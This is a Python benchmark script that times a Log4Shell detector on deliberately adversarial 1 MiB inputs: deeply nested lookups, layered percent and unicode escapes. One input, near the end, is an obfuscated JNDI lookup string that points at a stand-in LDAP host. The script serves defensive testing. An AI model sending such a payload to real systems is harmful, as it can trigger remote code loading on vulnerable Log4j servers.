#!/usr/bin/env python
"""Log4Shell indicator benchmark: time and work of `jndi_indicator` on adversarial 1 MiB texts.

    PYTHONPATH=workflow python benchmarks/bench_log4shell.py

For each input: the best of five runs in CPU time (time.process_time, so other processes on a
busy machine count less), the escape layers and lookup rounds that rewrote the text, and the
characters the passes read per character of input (the work; `tests/test_log4shell.py` asserts
it stays a small multiple). The target from issue 11, at most 50 ms for any input of up to
1 MB, is printed beside the figures, never asserted: this is a script, not a test.
"""

from __future__ import annotations

import time

from tracelab.security.log4shell import jndi_indicator, unwrap

SIZE = 1 << 20
TARGET_MS = 50.0


def adversarial_inputs() -> dict[str, str]:
    nest = SIZE // 9
    return {
        "${ repeated (no close)": "${" * (SIZE // 2),
        "${lower: nested, closed": "${lower:" * nest + "j" + "}" * nest,
        "${x nested, closed": "${x" * (SIZE // 4) + "}" * (SIZE // 4),
        "%25 repeated": "%25" * (SIZE // 3),
        "%252525... (one long layering)": "%" + "25" * (SIZE // 2),
        "\\u0024 repeated": "\\u0024" * (SIZE // 6),
        "%u0024%u007b repeated": "%u0024%u007b" * (SIZE // 12),
        "${::-a} repeated (a lookup every 7 chars)": "${::-a}" * (SIZE // 7),
        "padding, then a payload": "a" * (SIZE - 64) + "${${::-j}ndi:ldap://cb.example/a}",
    }


def main() -> None:
    print(f"{'input':45} {'chars':>9} {'best ms':>8} {'layers':>6} {'rounds':>6} "
          f"{'read/char':>9} jndi")
    for name, text in adversarial_inputs().items():
        runs = []
        for _ in range(5):
            start = time.process_time()
            found = jndi_indicator(text)
            runs.append((time.process_time() - start) * 1000)
        work = unwrap(text)
        print(f"{name:45} {len(text):9d} {min(runs):8.1f} {work.escape_layers:6d} "
              f"{work.lookup_rounds:6d} {work.chars_read / len(text):9.2f} {found['jndi']}")
    print(f"target: every input at most {TARGET_MS:.0f} ms")


if __name__ == "__main__":
    main()
